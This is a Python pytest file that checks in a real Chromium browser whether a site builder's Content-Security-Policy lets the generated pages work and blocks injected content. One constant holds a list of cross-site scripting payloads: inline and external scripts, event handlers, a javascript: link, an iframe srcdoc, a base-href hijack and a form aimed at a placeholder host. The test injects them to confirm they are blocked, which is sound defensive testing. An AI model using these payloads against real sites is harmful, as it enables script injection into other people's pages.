"""The pages' Content-Security-Policy in a real browser: it lets the site work, and nothing else run."""

from __future__ import annotations

import datetime
import functools
import http.server
import importlib.util
import re
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from browsers import needs_chromium
from playwright import sync_api as playwright
from sites import LAB, MKDOCS_YML, make, tags

from kb.site.build import builder
from kb.site.html import csp
from kb.site.mkdocs import theme_defaults

# What themes and extensions like to do with styles: aligned cells, tabs, tasks, footnotes, code, details.
RICH = """---
title: Rich
services: [jellyfin]
---
| a | b |
|:-:|--:|
| 1 | 2 |

=== "one"
    1
=== "two"
    2

- [x] done[^1]

[^1]: a footnote

??? note "more"
    text

```python
print("hello")
```
![rack](../incidents/rack.png)
"""

# As if a note's text got past everything that makes it safe.
BYPASS = """
<script>window.pwned = 1</script><script src="data:text/javascript,window.pwned=2"></script>
<script src="http://192.0.2.1/x.js"></script><img src="x" onerror="window.pwned = 3"><svg onload="window.pwned = 4"></svg>
<iframe srcdoc="<script>parent.pwned = 5</script>"></iframe><a id="press" href="javascript:window.pwned = 6">press</a>
<button id="click" onclick="window.pwned = 7">click</button><img src="http://192.0.2.1/far.png"><base href="http://192.0.2.1/">
<style>.md-header { display: none }</style><link rel="stylesheet" href="http://192.0.2.1/x.css">
<form action="http://192.0.2.1/"><input name="secret" value="1"><button id="send">send</button></form>
<object data="http://192.0.2.1/x"></object><meta http-equiv="refresh" content="900;url=http://192.0.2.1/">
"""


@pytest.fixture(autouse=True, scope="module")
def own_cache(tmp_path_factory: pytest.TempPathFactory) -> Iterator[None]:
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("XDG_CACHE_HOME", str(tmp_path_factory.mktemp("cache")))
        yield


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = make(
        tmp_path_factory.mktemp("lab"),
        {**LAB, "services/rich.md": RICH},
        MKDOCS_YML.replace("  name: material\n", "  name: material\n  features: [content.tabs.link, content.code.copy]\n"),
    )
    return builder.build(root, day=datetime.date(2026, 11, 21)).folder


@pytest.fixture(scope="module")
def address(site: Path) -> Iterator[str]:
    class Quiet(http.server.SimpleHTTPRequestHandler):
        def log_message(self, *_: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(Quiet, directory=str(site)))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    server.server_close()


@needs_chromium
@pytest.mark.parametrize("way", ["http", "file"])
def test_no_page_of_the_site_does_what_its_own_policy_forbids(
    site: Path, address: str, chromium: playwright.Browser, way: str
) -> None:
    context = chromium.new_context()
    context.add_init_script(
        "addEventListener('securitypolicyviolation', e => (window.broken ??= []).push(e.violatedDirective))"
    )
    page = context.new_page()
    said: list[str] = []
    page.on("console", lambda message: said.append(message.text) if "Content" in message.text else None)
    page.on("pageerror", lambda error: said.append(str(error)))
    files = sorted(site.rglob("*.html"))
    if way == "file":  # one of each kind; the 404 is sent by a server, and its addresses begin at the server's root
        files = [site / f"{name}.html" for name in ("index", "paste", "graph", "services/map", "services/rich", "errors/index")]
    for file in files:
        path = file.relative_to(site).as_posix()
        page.goto(f"{address}/{path}" if way == "http" else file.as_uri())
        page.wait_for_timeout(100)
        assert page.evaluate("window.broken ?? []") == [], path
        assert (path, said) == (path, [])
        assert page.evaluate("typeof __md_scope") == "object"
    context.close()


@needs_chromium
@pytest.mark.parametrize("way", ["http", "file"])
def test_what_got_past_everything_else_still_runs_nothing_and_asks_nobody(
    site: Path, address: str, chromium: playwright.Browser, way: str, request: pytest.FixtureRequest
) -> None:
    text = (site / "services/rich.html").read_text()
    hacked = site / "services/hacked.html"
    request.addfinalizer(lambda: hacked.unlink(missing_ok=True))
    hacked.write_text(text.replace("</article>", BYPASS + "</article>"))
    page = chromium.new_page()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.goto(f"{address}/services/hacked.html" if way == "http" else hacked.as_uri())
    for button in ("press", "click", "send"):
        page.evaluate("id => document.getElementById(id).click()", button)
    page.wait_for_timeout(300)
    assert page.evaluate("window.pwned") is None
    assert page.evaluate("getComputedStyle(document.querySelector('.md-header')).display") != "none"
    here = (address, "file://", "about:", "chrome-error:")
    assert [url for url in asked if not url.startswith(here) and "192.0.2.1" not in url] == []
    assert page.url.endswith("services/hacked.html")
    hacked.write_text(re.sub(r"<meta http-equiv=\"Content-Security-Policy\"[^>]*>", "", hacked.read_text()))
    page.route("http://192.0.2.1/**", lambda route: route.abort())  # else a network may let it wait for as long as it likes
    page.goto(hacked.as_uri())
    page.wait_for_timeout(100)
    assert page.evaluate("window.pwned"), "the test's own page does run something where there is no policy"
    page.close()


def test_the_policy_is_the_same_strict_one_on_every_page_and_stands_before_all_that_loads(site: Path) -> None:
    for page in site.rglob("*.html"):
        head = page.read_text().partition("</head>")[0]
        found = re.findall(r'http-equiv="Content-Security-Policy" content="([^"]*)"', head)
        assert found == [csp.policy()], page
        assert head.index("Content-Security-Policy") < min(head.index("<link"), head.index("<script"))
        assert head.encode().index(b"<meta charset") < 900, "browsers look for it in the first 1,024 bytes"
    assert "unsafe" not in csp.policy()


def test_files_of_others_that_mkdocs_yml_asks_for_are_let_in_and_inline_scripts_are_named(tmp_path: Path) -> None:
    others = "extra_javascript: ['https://cdn.example.org/a.js', mine.js]\nextra_css: ['//fonts.example.org/b.css', 'javascript:0']\n"
    root = make(tmp_path, {}, MKDOCS_YML.replace("  name: material\n", "  name: material\n  custom_dir: looks\n") + others)
    (root / "looks").mkdir()
    (root / "looks/main.html").write_text('{% extends "base.html" %}{% block libs %}<script>mine()</script>{% endblock %}')
    built = builder.build(root)
    page = (built.folder / "index.html").read_text()
    assert "script-src 'self' https://cdn.example.org; style-src 'self' https://fonts.example.org;" in page
    assert len([said for said in built.warnings if "csp: false" in said]) == 1
    (root / "mkdocs.yml").write_text((root / "mkdocs.yml").read_text().replace("  - kb\n", "  - kb: {csp: false}\n"))
    built = builder.build(root)
    assert built.warnings == ()
    assert "Content-Security-Policy" not in (built.folder / "index.html").read_text()


def test_the_scripts_that_stand_in_for_the_themes_own_are_the_themes_own() -> None:
    theme = importlib.util.find_spec("material")
    assert theme
    assert theme.origin
    for name in ("base", "palette", "content", "announce"):
        theirs = Path(theme.origin).parent.joinpath("templates/partials/javascripts", f"{name}.html").read_text()
        ours = (theme_defaults.THEME / "partials/javascripts" / f"{name}.html").read_text()
        files = [(theme_defaults.THEME / path).read_text() for path in re.findall(r"'(assets/material/[\w-]+\.js)'", ours)]
        scripts = re.findall(r"<script>(.*?)</script>", theirs, re.DOTALL)
        scope = ('"{{ config.extra.scope | d(base_url) }}",location', '"../..",document.currentScript.src')
        assert [script.replace(*scope) for script in scripts] == [file.partition("\n")[2].rstrip("\n") for file in files]


def test_scripts_load_side_by_side_since_a_browser_looks_for_none_ahead_after_a_policy(site: Path) -> None:
    scripts = [found for tag, found in tags(site / "index.html") if tag == "script" and found.get("src")]
    waited_for = [str(found["src"]).rpartition("/")[2] for found in scripts if "defer" not in found]
    assert waited_for == ["base.js", "palette.js", "scheme.js"]
    assert len(scripts) > 8
